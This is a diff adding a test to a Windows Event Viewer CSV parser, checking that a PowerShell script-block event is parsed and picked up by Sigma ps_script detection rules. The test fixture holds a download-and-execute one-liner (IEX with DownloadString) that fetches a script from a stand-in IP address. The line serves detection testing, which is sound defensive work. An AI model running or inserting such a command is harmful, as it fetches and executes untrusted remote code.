@@ -67,6 +67,15 @@ void describe('Windows Event Viewer CSV export', () => {
     }
   });
 
+  void it("reads a PowerShell script block's script back, for Sigma's ps_script rules", async () => {
+    const script = 'IEX (New-Object Net.WebClient).DownloadString("http://198.51.100.7/a.ps1")\r\nWrite-Host done';
+    const message = `Creating Scriptblock text (1 of 1):\r\n${script}\r\n\r\nScriptBlock ID: 6b0b3f4e-0000-4000-8000-000000000000\r\nPath: C:\\Users\\alice\\a.ps1`;
+    const [e] = await eventsOf('PowerShell.csv', `${LEVEL_HEADER}\r\nVerbose,11/23/2026 8:03:00 AM,Microsoft-Windows-PowerShell,4104,Execute a Remote Command,${quoted(message)}\r\n`);
+    assert.deepEqual([e?.event.dataset, e?.event.action, e?.winlog?.event_data?.ScriptBlockText, e?.winlog?.event_data?.Path, e?.labels?.script_block_part], ['windows.powershell', 'powershell-script-block', script.replace(/\r\n/g, '\n'), 'C:\\Users\\alice\\a.ps1', '1/1']);
+    assert.equal(e !== undefined && selected(e, { product: 'windows', category: 'ps_script' }), true);
+    assert.match(String(e !== undefined && read(e, { product: 'windows', category: 'ps_script' }, 'ScriptBlockText')), /DownloadString/);
+  });
+
   void it('reads the times of the locales Event Viewer writes, and keeps others as they are', () => {
     assert.equal(exportTime('11/23/2026 8:01:02 AM'), '2026-11-23T08:01:02');
     assert.equal(exportTime('1/2/2026 12:00:00 AM'), '2026-01-02T00:00:00');
